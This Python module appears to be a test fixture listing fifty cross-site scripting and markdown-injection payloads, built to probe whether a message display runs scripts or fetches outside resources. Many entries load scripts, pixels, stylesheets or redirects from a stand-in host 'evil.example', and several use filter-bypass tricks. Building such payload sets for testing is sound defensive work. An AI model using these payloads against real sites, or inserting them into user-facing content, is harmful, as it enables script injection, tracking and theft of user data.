"""Fifty ways to have a script run, or something fetched, where a message is shown."""

from __future__ import annotations

MARK = "window.top.__owned=1;window.__owned=1"
"""What a payload does when it gets to run; `{{mark}}` stands for it. Everything else would be a request outside."""

OUT = "https://evil.example"

_TEMPLATES = (
    "<script>{m}</script>",
    "<ScRiPt>{m}</sCrIpT>",
    "<script src={o}/x.js></script>",
    "<scr<script>ipt>{m}</scr</script>ipt>",
    "</script><script>{m}</script>",
    "<img src=x onerror={m}>",
    "<img src=x onerror='{m}'//",
    "<img/src=x/onerror={m}>",
    "<img src={o}/pixel.png>",
    "<svg onload={m}>",
    "<svg><script>{m}</script></svg>",
    "<svg><animate onbegin={m} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={m}>#x'/></svg>",
    "<iframe srcdoc='<script>{m}</script>'></iframe>",
    "<iframe src=javascript:{m}></iframe>",
    "<iframe src={o}/></iframe>",
    "<object data=javascript:{m}></object>",
    "<embed src={o}/x.swf>",
    "<body onload={m}>",
    "<details open ontoggle={m}>x</details>",
    "<input autofocus onfocus={m}>",
    "<select autofocus onfocus={m}></select>",
    "<textarea autofocus onfocus={m}></textarea>",
    "<video><source onerror={m}></video>",
    "<video poster={o}/p.png></video>",
    "<audio src=x onerror={m}>",
    "<marquee onstart={m}>x</marquee>",
    "<math><mtext></table></math><img src=x onerror={m}>",
    "<style>@import '{o}/x.css';</style>",
    "<link rel=stylesheet href={o}/x.css>",
    "<meta http-equiv=refresh content='0;url={o}'>",
    "<base href={o}/>",
    "<form action={o}><button autofocus>x</button></form>",
    "<a href='javascript:{m}'>x</a>",
    '<div style="background:url({o}/bg.png)">x</div>',
    "<template><img src=x onerror={m}></template>",
    '" onmouseover="{m}" x="',
    "' autofocus onfocus='{m}",
    "--><img src=x onerror={m}>",
    "]]><img src=x onerror={m}>",
    "[click](javascript:{m})",
    "[click](JaVaScRiPt:{m})",
    "[click](java\tscript:{m})",
    "[click](data:text/html,<script>{m}</script>)",
    "[x](https://bank.example@evil.example/)",
    "![pixel]({o}/p.png)",
    "![pixel][1]\n\n[1]: {o}/p.png",
    "[![pixel]({o}/p.png)]({o}/x)",
    "`<img src=x onerror={m}>` **<img src=x onerror={m}>**",
    "```\n</code></pre><script>{m}</script>\n```",
    "- <img src=x onerror={m}>\n1. <svg onload={m}>\n> <script>{m}</script>",
    "{{{{constructor.constructor('{m}')()}}}}${{{m}}}",
)

PAYLOADS = tuple(template.format(m=MARK, o=OUT) for template in _TEMPLATES)
